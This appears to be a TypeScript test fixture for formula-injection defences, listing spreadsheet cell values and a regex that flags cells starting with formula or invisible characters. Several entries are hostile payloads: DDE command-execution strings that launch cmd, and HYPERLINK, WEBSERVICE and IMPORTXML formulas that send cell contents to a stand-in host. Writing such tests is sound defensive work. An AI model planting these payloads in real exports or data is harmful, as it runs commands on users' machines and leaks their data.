/** What a spreadsheet might run when it opens a file: as a whole cell, behind a sign that is not seen, or out of its cell. */
export const formulas: readonly string[] = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://elders.test/?x="&A1;"klik")',
  '=WEBSERVICE("https://elders.test/"&A1)',
  '=IMPORTXML(CONCAT("https://elders.test/?v=";A1);"//a")',
  '=DDE("cmd";"/C calc";"x")',
  "+1+1",
  "+31 6 00000000",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\u0001=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u2028=1+1",
  '";=1+1',
  'x";"=1+1',
  "x\r\n=1+1;=2+2",
  "'=1+1",
  '"=1+1"',
];

/** No column of a database holds this sign. */
export const unkeepable = "\0=1+1";

/** What a cell may not begin with: a sign of a formula, or one that is not seen. */
export const begins = /^[=+\-@＝＋－＠\p{C}\p{Z}]/u;
